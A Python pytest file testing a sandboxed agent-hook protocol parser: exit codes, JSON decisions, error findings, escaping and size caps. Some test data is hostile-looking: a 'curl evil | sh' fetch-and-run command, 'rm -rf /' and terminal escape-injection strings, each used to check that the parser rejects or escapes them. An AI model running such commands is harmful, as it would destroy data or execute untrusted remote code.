"""The hook protocol: stdin, exit codes + output -> outcome, fold, render. No I/O."""

from __future__ import annotations

import itertools
import json
from typing import Any

import pytest
from answers import js, parse, specific

from executor.core.events import get_event
from executor.core.protocol import (
    UNSET,
    AgentAnswer,
    Decision,
    HookOutcome,
    apply_on_error,
    build_stdin,
    error_outcome,
    fold,
    parse_outcome,
    worktree_answer,
)
from executor.core.text import MESSAGE_CAP, TRUNCATION_MARK

PRE = get_event("PreToolUse")
POST = get_event("PostToolUse")
PERM = get_event("PermissionRequest")
STOP = get_event("Stop")
PROMPT = get_event("UserPromptSubmit")
START = get_event("SessionStart")
NOTIFY = get_event("Notification")


# -- exit 0 ---------------------------------------------------------------------------


def test_exit_0_with_nothing_is_a_quiet_success() -> None:
    o = parse("PreToolUse")
    assert o.status == "ok"
    assert o.decision is None
    assert o.system_message is None
    assert o.additional_context is None
    assert o.notes == ()


@pytest.mark.parametrize("stdout", [b'{"systemMessage": "hi"}', b'  \n\t {"systemMessage": "hi"}\n\n'])
def test_exit_0_json_when_first_non_blank_character_is_a_brace(stdout: bytes) -> None:
    assert parse("Stop", stdout).system_message == "hi"


@pytest.mark.parametrize("event", ["UserPromptSubmit", "SessionStart"])
def test_exit_0_plain_text_becomes_context_on_prompt_and_session_start(event: str) -> None:
    o = parse(event, b"  remember: tabs not spaces \n")
    assert o.status == "ok"
    assert o.additional_context == "remember: tabs not spaces"


@pytest.mark.parametrize("event", ["PreToolUse", "PostToolUse", "Stop", "Notification", "SessionEnd"])
def test_exit_0_plain_text_is_not_context_elsewhere(event: str) -> None:
    o = parse(event, b"some chatter")
    assert o.status == "ok"
    assert o.additional_context is None


def test_exit_0_text_that_merely_contains_a_brace_is_plain_text() -> None:
    assert parse("UserPromptSubmit", b'note: {"decision": "block"}').additional_context == 'note: {"decision": "block"}'
    assert parse("UserPromptSubmit", b'note: {"decision": "block"}').status == "ok"


@pytest.mark.parametrize(
    "stdout",
    [b"{", b"{not json}", b'{"a": 1} trailing', b'{"a": 1}\n{"b": 2}', b"{'single': 'quotes'}"],
)
def test_exit_0_invalid_json_is_an_error(stdout: bytes) -> None:
    o = parse("PreToolUse", stdout)
    assert o.status == "error"
    assert o.error is not None and "not valid JSON" in o.error
    assert o.decision is None


def test_exit_0_invalid_json_on_a_context_event_does_not_become_context() -> None:
    o = parse("UserPromptSubmit", b"{oops")
    assert o.status == "error"
    assert o.additional_context is None


# -- exit 2 ---------------------------------------------------------------------------


# PermissionRequest was in this list: Claude Code's reference says its exit 2 "isn't honored for this
# event" (see test_permission_request_exit_2_is_not_a_deny below).
@pytest.mark.parametrize("event", ["PreToolUse", "PostToolUse", "Stop", "UserPromptSubmit", "SubagentStop"])
def test_exit_2_blocks_with_stderr_as_reason(event: str) -> None:
    o = parse(event, b'{"decision": "approve"}', code=2, stderr=b"  rm -rf is not allowed\n")
    assert o.status == "block"
    assert o.reason == "rm -rf is not allowed"
    assert o.decision is None  # stdout is ignored on exit 2


def test_exit_2_with_empty_stderr_still_blocks_and_names_the_hook() -> None:
    o = parse("PreToolUse", code=2, stderr=b"", hook="guard.sh")
    assert o.status == "block"
    assert o.reason is not None and "guard.sh" in o.reason


@pytest.mark.parametrize("event", ["Notification", "SessionStart", "SessionEnd", "PostCompact", "SubagentStart"])
def test_exit_2_on_events_that_cannot_block_is_shown_to_the_user(event: str) -> None:
    o = parse(event, code=2, stderr=b"cannot block this\n")
    assert o.status == "ok"
    assert o.system_message == "cannot block this"
    assert o.reason is None


def test_exit_2_with_empty_stderr_on_a_non_blocking_event_says_nothing() -> None:
    o = parse("Notification", code=2)
    assert o.status == "ok"
    assert o.system_message is None


# -- other exit codes, kills ------------------------------------------------------------


@pytest.mark.parametrize(("code", "said"), [(1, ""), (3, ""), (126, " (could not execute)"),
                                           (127, " (command not found)"), (255, ""), (-9, "")])
def test_other_exit_codes_are_non_blocking_errors_with_the_first_stderr_line(code: int, said: str) -> None:
    o = parse("PreToolUse", b'{"hookSpecificOutput": {"permissionDecision": "deny"}}', code=code,
              stderr=b"\n\n  first problem  \nsecond problem\n")
    assert o.status == "error"
    assert o.error == f"exited {code}{said}: first problem"
    assert o.decision is None  # stdout of a failed hook is never trusted


def test_other_exit_code_without_stderr() -> None:
    assert parse("Stop", code=1).error == "exited 1"


def test_killed_without_exit_code() -> None:
    o = parse("PreToolUse", code=None, stderr=b"partial")
    assert o.status == "error"
    assert o.exit_code is None
    assert o.error is not None and "killed" in o.error


def test_timed_out_wins_over_whatever_it_printed() -> None:
    o = parse_outcome(PRE, "h", None, b'{"decision": "approve"}', b"", timed_out=True, timeout=1.5)
    assert o.status == "error"
    assert o.error == "timed out after 1.5 s"
    assert o.decision is None


def test_timed_out_without_a_timeout_value() -> None:
    assert parse_outcome(STOP, "h", 0, b"", b"", timed_out=True).error == "timed out"


def test_oom_killed() -> None:
    o = parse_outcome(PRE, "h", 137, b"", b"", oom_killed=True)
    assert o.status == "error"
    assert o.error is not None and "out of memory" in o.error


def test_outcome_remembers_hook_name_and_id() -> None:
    o = parse_outcome(STOP, "lint.sh", 0, b"", b"", hook_id="habc")
    assert (o.hook, o.hook_id, o.exit_code) == ("lint.sh", "habc", 0)


def test_error_outcome_for_a_hook_that_could_not_run() -> None:
    o = error_outcome("h", "sandbox down", hook_id="h1")
    assert (o.status, o.error, o.exit_code, o.hook_id) == ("error", "sandbox down", None, "h1")


# -- findings: exits that are not verdicts ---------------------------------------------


class Box:
    """What parse_outcome needs to know of where a hook ran (as SandboxOptions has it)."""

    def __init__(self, backend: str = "docker", workspace: str = "ro", network: str = "none") -> None:
        self.backend, self.workspace, self.network = backend, workspace, network


DOCKER = Box()
HOST = Box(backend="host")
ROOT = "/home/ann/repo"


def ran(event: str, code: int, stderr: str, *, box: Box | None = DOCKER, image: str | None = "hookcage/runner:0.1.0",
        stdout: bytes = b"") -> HookOutcome:
    return parse_outcome(get_event(event), "h", code, stdout, stderr.encode(), sandbox=box, image=image,
                         project_dir=ROOT)


NODE_ADVICE = ("exited 127: the image hookcage/runner:0.1.0 has no `node`: use an image that has it "
               "(sandbox.image) or see docs/recipes.md")


@pytest.mark.parametrize(
    "stderr",
    [
        "sh: 1: node: not found\n",  # dash, the runner image's /bin/sh
        "/bin/sh: 1: node: not found\n",
        "bash: line 1: node: command not found\n",  # bash 5.1+
        "bash: node: command not found\n",  # older bash
        "./.claude/hooks/lint.sh: line 4: node: command not found\n",  # a bash script's own line
        "/usr/bin/env: 'node': No such file or directory\n",  # #!/usr/bin/env node
        "/usr/bin/env: \u2018node\u2019: No such file or directory\n",  # coreutils in a UTF-8 locale
        "starting\nsh: 1: node: not found\n",
    ],
)
def test_exit_127_names_the_missing_program_and_how_to_get_it(stderr: str) -> None:
    o = ran("PreToolUse", 127, stderr)
    assert o.status == "error" and o.error == NODE_ADVICE


def test_exit_127_from_env_with_unicode_quotes_names_the_program() -> None:
    o = ran("Stop", 127, "env: \u2018uv\u2019: No such file or directory\n", image="python:3.12-slim")
    assert o.error == ("exited 127: the image python:3.12-slim has no `uv`: use an image that has it "
                       "(sandbox.image) or see docs/recipes.md")


def test_exit_127_in_the_default_image_and_on_the_host() -> None:
    assert ran("Stop", 127, "sh: 1: node: not found", image=None).error == (
        "exited 127: the default image has no `node`: use an image that has it (sandbox.image) or see docs/recipes.md")
    assert ran("Stop", 127, "sh: 1: node: not found", box=HOST).error == "exited 127: `node` is not installed (not on PATH)"
    assert ran("Stop", 127, "sh: 1: node: not found", box=None).error == "exited 127: `node` is not installed (not on PATH)"


def test_exit_127_for_a_path_says_the_file_is_not_there() -> None:
    assert ran("Stop", 127, "sh: 1: ./hooks/x.sh: not found").error == "exited 127: `./hooks/x.sh` does not exist in the sandbox"
    assert ran("Stop", 127, "bash: ./x.sh: No such file or directory").error == "exited 127: `./x.sh` does not exist in the sandbox"


@pytest.mark.parametrize(
    ("stderr", "why"),
    [
        ("sh: 1: ./x.sh: Permission denied", "cannot be executed (Permission denied): give it the execute bit"),
        ("bash: ./x.sh: Permission denied", "cannot be executed (Permission denied)"),
        ("bash: line 1: ./x.sh: Permission denied", "cannot be executed (Permission denied)"),
        ("sh: 1: ./x.sh: Exec format error", "cannot be executed (Exec format error)"),
        ("bash: ./x.sh: cannot execute binary file: Exec format error", "cannot be executed (Exec format error)"),
    ],
)
def test_exit_126_says_why_the_program_could_not_run(stderr: str, why: str) -> None:
    o = ran("PreToolUse", 126, stderr)
    assert o.status == "error" and o.error is not None
    assert o.error.startswith(f"exited 126: `./x.sh` {why}")


def test_exit_126_under_tmp_says_tmp_is_noexec() -> None:
    error = ran("Stop", 126, "sh: 1: /tmp/tool: Permission denied").error
    assert error is not None and error.endswith("; /tmp in the sandbox cannot hold programs (noexec)")


def test_126_and_127_stay_non_blocking_errors_and_on_error_deny_still_denies() -> None:
    o = ran("PreToolUse", 127, "sh: 1: node: not found", stdout=js({"decision": "block"}))
    assert (o.status, o.decision, o.reason) == ("error", None, None)
    denied = apply_on_error(PRE, o, "deny")
    assert denied.decision == "deny" and denied.reason is not None and "has no `node`" in denied.reason
    assert apply_on_error(STOP, ran("Stop", 126, "sh: 1: ./x: Permission denied"), "deny").status == "block"


def test_a_127_that_names_no_program_keeps_its_first_line() -> None:
    assert ran("Stop", 127, "something odd\n").error == "exited 127 (command not found): something odd"
    # The wrong code for the message: no finding.
    assert ran("Stop", 1, "sh: 1: node: not found").error == "exited 1: sh: 1: node: not found"
    assert ran("Stop", 127, "sh: 1: ./x: Permission denied").error == "exited 127 (command not found): sh: 1: ./x: Permission denied"


def test_a_program_name_is_sanitised_and_capped() -> None:
    error = ran("Stop", 127, "sh: 1: \x1b[31mno" + "d" * 500 + "e: not found")
    assert error.error is not None and "\x1b" not in error.error and len(error.error) < 400


@pytest.mark.parametrize(
    ("stderr", "error"),
    [
        ("sh: 1: cannot create /tmp/.claude/log.txt: Directory nonexistent\n",
         "exited 2 because the shell could not write /tmp/.claude/log.txt (Directory nonexistent), not as a "
         "verdict: the sandbox's home is throw-away and /tmp is the only writable place; a persistent home: "
         'sandbox.home: "persistent" (see docs/sandbox.md)'),
        ("sh: 1: cannot create /home/ann/repo/.cache/x: Read-only file system\n",
         "exited 2 because the shell could not write /home/ann/repo/.cache/x (Read-only file system), not as a "
         'verdict: the project is read-only in the sandbox; to let this hook write it: sandbox.workspace: "rw"'),
        ("sh: 1: cannot create /home/ann/repo/.cache/x: Permission denied\n",  # gVisor's word for it
         "exited 2 because the shell could not write /home/ann/repo/.cache/x (Permission denied), not as a "
         'verdict: the project is read-only in the sandbox; to let this hook write it: sandbox.workspace: "rw"'),
        ("sh: 1: cannot create notes.txt: Read-only file system\n",  # relative: the cwd is in the workspace
         "exited 2 because the shell could not write notes.txt (Read-only file system), not as a verdict: the "
         'project is read-only in the sandbox; to let this hook write it: sandbox.workspace: "rw"'),
        ("sh: 1: cannot create /home/ann/.claude/state.json: Read-only file system\n",
         "exited 2 because the shell could not write /home/ann/.claude/state.json (Read-only file system), not "
         "as a verdict: the sandbox's home is throw-away and /tmp is the only writable place; a persistent "
         'home: sandbox.home: "persistent" (see docs/sandbox.md)'),
        ("./.claude/hooks/log.sh: 3: cannot create /home/ann/repo/log: Read-only file system\n",
         "exited 2 because the shell could not write /home/ann/repo/log (Read-only file system), not as a "
         'verdict: the project is read-only in the sandbox; to let this hook write it: sandbox.workspace: "rw"'),
        ("sh: 1: cannot open /home/ann/repo/missing.json: No such file\n",
         "exited 2 because the shell could not read /home/ann/repo/missing.json (No such file), not as a verdict"),
    ],
)
def test_exit_2_from_a_failed_redirection_is_a_finding_not_a_block(stderr: str, error: str) -> None:
    o = ran("Stop", 2, stderr)
    assert (o.status, o.reason, o.error) == ("error", None, error)


def test_a_redirection_refused_in_a_writable_workspace_gives_no_wrong_advice() -> None:
    o = parse_outcome(STOP, "h", 2, b"", b"sh: 1: cannot create /home/ann/repo/x: Read-only file system",
                      sandbox=Box(workspace="rw"), project_dir=ROOT)
    assert o.error == "exited 2 because the shell could not write /home/ann/repo/x (Read-only file system), not as a verdict"


def test_a_write_refused_in_a_writable_workspace_gives_no_read_only_advice_under_gvisor_either() -> None:
    o = parse_outcome(STOP, "h", 2, b"", b"sh: 1: cannot create /home/ann/repo/x: Permission denied",
                      sandbox=Box(workspace="rw"), project_dir=ROOT)
    assert o.error == "exited 2 because the shell could not write /home/ann/repo/x (Permission denied), not as a verdict"


def test_a_failed_redirection_on_the_host_is_a_finding_without_sandbox_advice() -> None:
    o = ran("Stop", 2, "sh: 1: cannot create /nope/log: Directory nonexistent", box=HOST)
    assert (o.status, o.error) == ("error", "exited 2 because the shell could not write /nope/log "
                                            "(Directory nonexistent), not as a verdict")


@pytest.mark.parametrize(
    "stderr",
    [
        'sh: 1: Syntax error: "(" unexpected\n',
        'sh: 1: Syntax error: end of file unexpected (expecting "fi")\n',
        '/repo/.claude/hooks/x.sh: 3: Syntax error: end of file unexpected (expecting "fi")\n',
        "bash: -c: line 2: syntax error: unexpected end of file\n",
        "bash: -c: line 1: syntax error near unexpected token `)'\nbash: -c: line 1: `echo )'\n",
        "hi\n./x.sh: line 3: syntax error: unexpected end of file\n",
        "bash: -c: line 1: syntax error: unexpected end of file from `if' command on line 1\n",  # bash 5.2
    ],
)
def test_exit_2_from_a_syntax_error_is_a_finding_not_a_block(stderr: str) -> None:
    o = ran("PreToolUse", 2, stderr)
    assert o.status == "error" and o.reason is None
    assert o.error is not None and o.error.startswith("exited 2 on the shell's syntax error, not as a verdict: ")
    assert "syntax error" in o.error.lower()


def test_a_shell_error_on_an_event_that_cannot_block_is_reported_as_an_error_too() -> None:
    o = ran("SessionStart", 2, "sh: 1: cannot create /tmp/.claude/x: Directory nonexistent")
    assert o.status == "error" and o.system_message is None


@pytest.mark.parametrize(
    "stderr",
    [
        # The guard's own reason comes last: it blocks, whatever came before.
        "sh: 1: cannot create /tmp/.claude/log.txt: Directory nonexistent\nrm -rf is not allowed here\n",
        # A block message that quotes a shell error mid-stderr still blocks.
        "blocked: sh: 1: cannot create /etc/x: Read-only file system\nsee policy.md\n",
        # Mimicry that is not anchored to the shell's exact form.
        "blocked: sh: 1: cannot create /etc/x: Read-only file system\n",
        "  refused: 1: cannot create x: nope\n",
        "sh: 1: cannot create /x: read-only file system\n",  # not dash's spelling
        "sh: cannot create /x: Read-only file system\n",  # no line number: not dash's form
        "Syntax error: the command is not allowed\n",
        "bash: -c: line 1: `echo )'\n",  # bash's source line without its syntax error before it
        "policy: line 1: syntax error in your request\nrm is denied\n",
        "policy: line 1: syntax error in your request\n",  # not one of bash's own syntax messages
    ],
)
def test_a_guard_whose_message_mimics_a_shell_error_still_blocks(stderr: str) -> None:
    o = ran("PreToolUse", 2, stderr)
    assert o.status == "block" and o.reason == stderr.strip()


def test_bash_syntax_source_line_must_follow_the_same_shells_syntax_error() -> None:
    stderr = "other: line 1: syntax error near unexpected token `)'\nbash: -c: line 1: `echo )'\n"
    assert ran("PreToolUse", 2, stderr).status == "block"


@pytest.mark.parametrize(
    "stderr",
    [
        "curl: (6) Could not resolve host: example.com",
        "fatal: unable to access 'https://github.com/x/y/': Could not resolve host: github.com",
        "socket.gaierror: [Errno -3] Temporary failure in name resolution",
        "connect: Network is unreachable",
        "Error: getaddrinfo ENOTFOUND registry.npmjs.org",
        "npm error request to https://registry.npmjs.org/x failed, reason: getaddrinfo EAI_AGAIN registry.npmjs.org",
    ],
)
def test_network_refusal_says_the_sandbox_has_no_network(stderr: str) -> None:
    o = ran("PostToolUse", 1, "Traceback (most recent call last):\n  ...\n" + stderr + "\n")
    assert (o.status, o.error) == ("error", f"exited 1: {stderr}; no network in the sandbox (sandbox.network)")


def test_network_finding_only_where_the_network_is_off() -> None:
    line = "curl: (6) Could not resolve host: example.com"
    assert ran("Stop", 6, line, box=HOST).error == f"exited 6: {line}"
    assert ran("Stop", 6, line, box=Box(network="bridge")).error == f"exited 6: {line}"
    assert ran("Stop", 6, line, box=None).error == f"exited 6: {line}"
    # An exit 2 is the hook's verdict: a guard that blocks because it could not check still blocks.
    assert ran("PreToolUse", 2, line).status == "block"


# -- JSON fields ------------------------------------------------------------------------


def test_continue_false_with_stop_reason() -> None:
    o = parse("PostToolUse", js({"continue": False, "stopReason": "build broke"}))
    assert o.continue_ is False
    assert o.stop_reason == "build broke"


def test_continue_true_changes_nothing_and_stop_reason_alone_is_ignored() -> None:
    o = parse("Stop", js({"continue": True, "stopReason": "ignored"}))
    assert o.continue_ is True
    assert o.stop_reason is None


def test_suppress_output_and_system_message() -> None:
    o = parse("Stop", js({"suppressOutput": True, "systemMessage": "heads up"}))
    assert o.suppress_output is True
    assert o.system_message == "heads up"


@pytest.mark.parametrize("event", ["PostToolUse", "Stop", "UserPromptSubmit", "SubagentStop", "PreToolUse"])
def test_decision_block_with_reason(event: str) -> None:
    o = parse(event, js({"decision": "block", "reason": "tests fail"}))
    assert o.status == "block"
    assert o.reason == "tests fail"


def test_decision_block_without_reason_names_the_hook() -> None:
    o = parse("Stop", js({"decision": "block"}), hook="check.sh")
    assert o.status == "block"
    assert o.reason is not None and "check.sh" in o.reason


def test_decision_block_on_an_event_that_cannot_block_is_noted_not_obeyed() -> None:
    o = parse("Notification", js({"decision": "block", "reason": "x"}))
    assert o.status == "ok"
    assert any("no effect on Notification" in n for n in o.notes)


@pytest.mark.parametrize("event", ["PreToolUse", "PermissionRequest"])
def test_legacy_decision_approve_is_allow(event: str) -> None:
    o = parse(event, js({"decision": "approve", "reason": "safe"}))
    assert o.decision == "allow"
    assert o.reason == "safe"


def test_legacy_approve_on_an_event_without_permissions_is_noted() -> None:
    o = parse("Stop", js({"decision": "approve"}))
    assert o.decision is None
    assert o.notes


@pytest.mark.parametrize("value", ["deny", "allow", "yes", 1, ["block"]])
def test_unknown_top_level_decision_is_noted(value: Any) -> None:
    o = parse("Stop", js({"decision": value}))
    assert o.status == "ok"
    assert o.decision is None
    assert any("unknown decision" in n for n in o.notes)


@pytest.mark.parametrize("decision", ["allow", "deny", "ask", "defer"])
def test_permission_decision(decision: Decision) -> None:
    o = parse("PreToolUse", specific("PreToolUse", permissionDecision=decision, permissionDecisionReason="because"))
    assert o.status == "ok"
    assert o.decision == decision
    assert o.reason == "because"


@pytest.mark.parametrize(("legacy", "decision"), [("approve", "allow"), ("block", "deny")])
def test_legacy_permission_decisions(legacy: str, decision: Decision) -> None:
    assert parse("PreToolUse", specific("PreToolUse", permissionDecision=legacy)).decision == decision


@pytest.mark.parametrize("value", ["Allow", "DENY", "maybe", "", 1, True, None])
def test_unknown_permission_decision_is_noted(value: Any) -> None:
    o = parse("PreToolUse", specific("PreToolUse", permissionDecision=value))
    assert o.decision is None
    if value is not None:
        assert any("permissionDecision" in n for n in o.notes)


def test_permission_decision_on_an_event_without_permissions_is_noted() -> None:
    # Regression: a PostToolUse hook answering permissionDecision "deny" was
    # ignored without a word; the author believed it was blocking.
    o = parse("PostToolUse", specific("PostToolUse", permissionDecision="deny"))
    assert o.decision is None
    assert o.status == "ok"
    assert any("'permissionDecision' has no effect on PostToolUse" in n for n in o.notes)


def test_hook_event_name_mismatch_ignores_the_whole_specific_output() -> None:
    o = parse("PreToolUse", specific("PostToolUse", permissionDecision="deny", additionalContext="ctx"))
    assert o.decision is None
    assert o.additional_context is None
    assert any("'PostToolUse'" in n for n in o.notes)


def test_hook_event_name_may_be_omitted() -> None:
    o = parse("PreToolUse", js({"hookSpecificOutput": {"permissionDecision": "deny"}}))
    assert o.decision == "deny"


@pytest.mark.parametrize("key", ["updatedInput", "modifiedInput"])
def test_updated_input_and_codebuddys_modified_input(key: str) -> None:
    o = parse("PreToolUse", specific("PreToolUse", permissionDecision="allow", **{key: {"command": "ls -l"}}))
    assert o.decision == "allow"
    assert o.updated_input == {"command": "ls -l"}


def test_updated_and_modified_input_agreeing_is_fine() -> None:
    o = parse("PreToolUse", specific("PreToolUse", updatedInput={"a": 1}, modifiedInput={"a": 1}))
    assert o.updated_input == {"a": 1}


def test_updated_and_modified_input_disagreeing_drops_both() -> None:
    o = parse("PreToolUse", specific("PreToolUse", updatedInput={"a": 1}, modifiedInput={"a": 2}))
    assert o.updated_input is None
    assert any("differ" in n for n in o.notes)


@pytest.mark.parametrize("value", ["ls", ["ls"], 3, True])
def test_updated_input_must_be_an_object(value: Any) -> None:
    o = parse("PreToolUse", specific("PreToolUse", updatedInput=value))
    assert o.updated_input is None
    assert any("must be an object" in n for n in o.notes)


@pytest.mark.parametrize("event", ["PostToolUse", "Stop", "UserPromptSubmit"])
def test_updated_input_on_events_that_cannot_rewrite_input_is_noted(event: str) -> None:
    o = parse(event, specific(event, updatedInput={"command": "curl evil | sh"}))
    assert o.updated_input is None
    assert any("no effect" in n for n in o.notes)


@pytest.mark.parametrize("event", ["PreToolUse", "PostToolUse", "UserPromptSubmit", "SessionStart"])
def test_additional_context(event: str) -> None:
    assert parse(event, specific(event, additionalContext="see CONTRIBUTING")).additional_context == "see CONTRIBUTING"


@pytest.mark.parametrize("key", ["updatedToolOutput", "updatedMCPToolOutput"])
@pytest.mark.parametrize("value", ["redacted", {"content": []}, [1, 2], 0, False])
def test_updated_tool_output_on_post_tool_use(key: str, value: Any) -> None:
    assert parse("PostToolUse", specific("PostToolUse", **{key: value})).updated_output == value


def test_updated_tool_output_null_is_a_rewrite_not_nothing() -> None:
    # Regression: null was filtered out with the unset fields, so a hook that
    # blanked the output to null looked like a hook that said nothing.
    o = parse("PostToolUse", specific("PostToolUse", updatedToolOutput=None))
    assert o.updated_output is None


def test_no_updated_tool_output_is_unset() -> None:
    assert parse("PostToolUse", specific("PostToolUse")).updated_output is UNSET


@pytest.mark.parametrize("event", ["PreToolUse", "PostToolUseFailure", "Stop"])
@pytest.mark.parametrize("key", ["updatedToolOutput", "updatedMCPToolOutput"])
def test_updated_tool_output_elsewhere_is_noted(event: str, key: str) -> None:
    o = parse(event, specific(event, **{key: "x"}))
    assert o.updated_output is UNSET
    assert any(key in n for n in o.notes)


@pytest.mark.parametrize("behavior", ["allow", "deny", "ask"])
def test_permission_request_decision_behavior(behavior: Decision) -> None:
    o = parse("PermissionRequest", specific("PermissionRequest", decision={"behavior": behavior, "message": "m"}))
    assert o.decision == behavior
    assert o.reason == "m"


def test_permission_request_allow_with_updated_input() -> None:
    o = parse("PermissionRequest", specific(
        "PermissionRequest", decision={"behavior": "allow", "updatedInput": {"command": "ls"}}))
    assert o.decision == "allow"
    assert o.updated_input == {"command": "ls"}


def test_permission_request_decision_updated_input_must_be_an_object() -> None:
    o = parse("PermissionRequest", specific(
        "PermissionRequest", decision={"behavior": "allow", "updatedInput": "rm -rf /"}))
    assert o.updated_input is None
    assert any("updatedInput" in n for n in o.notes)


def test_permission_request_top_level_decision_object() -> None:
    o = parse("PermissionRequest", js({"decision": {"behavior": "deny", "message": "no"}}))
    assert (o.decision, o.reason) == ("deny", "no")


@pytest.mark.parametrize("behavior", ["yes", None, 1, "Allow"])
def test_permission_request_unknown_behavior_is_noted(behavior: Any) -> None:
    o = parse("PermissionRequest", specific("PermissionRequest", decision={"behavior": behavior}))
    assert o.decision is None
    assert any("behavior" in n for n in o.notes)


@pytest.mark.parametrize(
    ("answer", "key"),
    [
        ({"continue": "no"}, "continue"),
        ({"continue": 0}, "continue"),
        ({"suppressOutput": "yes"}, "suppressOutput"),
        ({"systemMessage": 42}, "systemMessage"),
        ({"systemMessage": ["a"]}, "systemMessage"),
        ({"decision": "block", "reason": {"why": 1}}, "reason"),
        ({"continue": False, "stopReason": 7}, "stopReason"),
        ({"hookSpecificOutput": "deny"}, "hookSpecificOutput"),
        ({"hookSpecificOutput": {"additionalContext": 1}}, "additionalContext"),
        ({"hookSpecificOutput": {"permissionDecision": "deny", "permissionDecisionReason": 1}},
         "permissionDecisionReason"),
    ],
)
def test_wrong_typed_fields_are_noted_and_ignored(answer: dict[str, Any], key: str) -> None:
    o = parse("PreToolUse", js(answer))
    assert o.status in ("ok", "block")
    assert any(key in n for n in o.notes)
    assert o.continue_ is (answer.get("continue") is not False)
    assert o.suppress_output is False
    assert o.system_message is None
    assert o.additional_context is None


def test_wrong_typed_reason_still_blocks() -> None:
    o = parse("Stop", js({"decision": "block", "reason": 5}))
    assert o.status == "block"


def test_a_json_array_is_plain_text_not_an_answer() -> None:
    # Only a first non-blank "{" makes stdout JSON; "[...]" is plain text.
    assert parse("Stop", b'[{"decision": "block"}]').status == "ok"
    assert parse("UserPromptSubmit", b"[1, 2]").additional_context == "[1, 2]"


# -- hygiene ----------------------------------------------------------------------------


def test_escapes_and_controls_are_shown_escaped_in_every_string() -> None:
    dirty = "\x1b[2J\x1b]0;pwned\x07clean\x00\x7f\x9b31m"
    clean = "\\x1b[2J\\x1b]0;pwned\\x07clean\\x00\\x7f\\u009b31m"
    answer = {
        "continue": False, "stopReason": dirty, "systemMessage": dirty, "reason": dirty,
        "decision": "block",
        "hookSpecificOutput": {"permissionDecision": "deny", "permissionDecisionReason": dirty,
                               "additionalContext": dirty},
    }
    o = parse("PreToolUse", js(answer))
    assert o.stop_reason == clean
    assert o.system_message == clean
    assert o.reason == clean
    assert o.additional_context == clean


def test_stderr_reason_is_shown_escaped() -> None:
    assert parse("Stop", code=2, stderr=b"\x1b[31mno\x1b[0m\r\n").reason == "\\x1b[31mno\\x1b[0m"


def test_plain_text_context_is_shown_escaped() -> None:
    assert parse("SessionStart", b"\x1b]0;title\x07ctx\x1b[0m").additional_context == "\\x1b]0;title\\x07ctx\\x1b[0m"


def test_strings_are_capped_at_ten_thousand_characters() -> None:
    long = "x" * 50_000
    o = parse("PreToolUse", js({"systemMessage": long, "hookSpecificOutput": {
        "additionalContext": long, "permissionDecision": "deny", "permissionDecisionReason": long}}))
    for value in (o.system_message, o.additional_context, o.reason):
        assert value is not None
        assert len(value) == MESSAGE_CAP
        assert value.endswith(TRUNCATION_MARK)


def test_stderr_and_plain_text_are_capped() -> None:
    assert len(parse("Stop", code=2, stderr=b"e" * 50_000).reason or "") == MESSAGE_CAP
    assert len(parse("SessionStart", b"c" * 50_000).additional_context or "") == MESSAGE_CAP
    assert len(parse("Stop", code=1, stderr=b"f" * 50_000).error or "") <= MESSAGE_CAP + 20


def test_invalid_utf8_is_shown_as_byte_escapes() -> None:
    # JSON answers are decoded with replacement (the agent's JSON must be valid text) ...
    assert parse("Stop", b'{"systemMessage": "ok \xff\xfe"}').system_message == "ok \ufffd\ufffd"
    # ... plain text and stderr show each byte that is not UTF-8.
    assert parse("Stop", code=2, stderr=b"bad \xc3(").reason == "bad \\xc3("
    assert parse("SessionStart", b"ctx \x80").additional_context == "ctx \\x80"


def test_deeply_nested_json_is_an_error_not_a_crash() -> None:
    # Regression: json.loads raised RecursionError (not JSONDecodeError), which
    # escaped parse_outcome and crashed dispatch: the agent saw exit 1 and every
    # other hook's deny was lost.
    stdout = b'{"a": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    o = parse("PreToolUse", stdout)
    assert o.status == "error"
    assert o.error is not None and "JSON" in o.error


def test_json_nested_just_under_the_recursion_limit_is_refused() -> None:
    # Regression: nesting that parsed in a worker thread could not be re-encoded
    # by fold/render on the deeper main-thread stack (RecursionError again).
    inner = b"[" * 900 + b"]" * 900
    o = parse("PreToolUse", b'{"hookSpecificOutput": {"permissionDecision": "allow", "updatedInput": {"a": '
              + inner + b"}}}")
    assert o.status == "error"
    assert o.updated_input is None


def test_moderately_nested_input_is_fine() -> None:
    value: Any = "leaf"
    for _ in range(20):
        value = {"k": [value]}
    o = parse("PreToolUse", specific("PreToolUse", updatedInput=value))
    assert o.updated_input == value


def test_huge_integer_is_an_error_not_a_crash() -> None:
    # Regression: Python refuses integers past 4300 digits with a plain ValueError,
    # which escaped parse_outcome like the RecursionError above.
    o = parse("PreToolUse", b'{"x": 1' + b"0" * 5000 + b"}")
    assert o.status == "error"


@pytest.mark.parametrize("constant", [b"NaN", b"Infinity", b"-Infinity"])
def test_nan_and_infinity_are_not_json(constant: bytes) -> None:
    # Regression: Python accepts them, then render() passed them on inside
    # updatedInput and the agent's JSON parser choked on hookcage's answer.
    o = parse("PreToolUse", b'{"hookSpecificOutput": {"permissionDecision": "allow", "updatedInput": {"n": '
              + constant + b"}}}")
    assert o.status == "error"
    assert o.updated_input is None


# -- apply_on_error ---------------------------------------------------------------------

FAILED = HookOutcome(hook="guard", status="error", exit_code=1, error="exited 1: boom")


def test_on_error_deny_turns_an_error_into_deny_on_pre_tool_use() -> None:
    o = apply_on_error(PRE, FAILED, "deny")
    assert o.status == "ok"
    assert o.decision == "deny"
    assert o.reason is not None and "guard" in o.reason and "boom" in o.reason


def test_on_error_deny_denies_a_permission_request() -> None:
    assert apply_on_error(PERM, FAILED, "deny").decision == "deny"


@pytest.mark.parametrize("event", ["Stop", "PostToolUse", "UserPromptSubmit", "SubagentStop"])
def test_on_error_deny_blocks_on_blocking_events(event: str) -> None:
    o = apply_on_error(get_event(event), FAILED, "deny")
    assert o.status == "block"
    assert o.reason is not None and "boom" in o.reason


@pytest.mark.parametrize("event", ["Notification", "SessionStart", "SessionEnd", "PostCompact"])
def test_on_error_deny_does_nothing_where_nothing_can_be_denied(event: str) -> None:
    assert apply_on_error(get_event(event), FAILED, "deny") == FAILED


def test_on_error_allow_leaves_the_error() -> None:
    assert apply_on_error(PRE, FAILED, "allow") == FAILED


def test_on_error_deny_leaves_successful_outcomes_alone() -> None:
    ok = HookOutcome(hook="g", decision="allow")
    assert apply_on_error(PRE, ok, "deny") == ok


def test_on_error_deny_covers_timeouts() -> None:
    timed_out = parse_outcome(PRE, "slow", None, b"", b"", timed_out=True, timeout=5)
    assert apply_on_error(PRE, timed_out, "deny").decision == "deny"


# -- fold -------------------------------------------------------------------------------

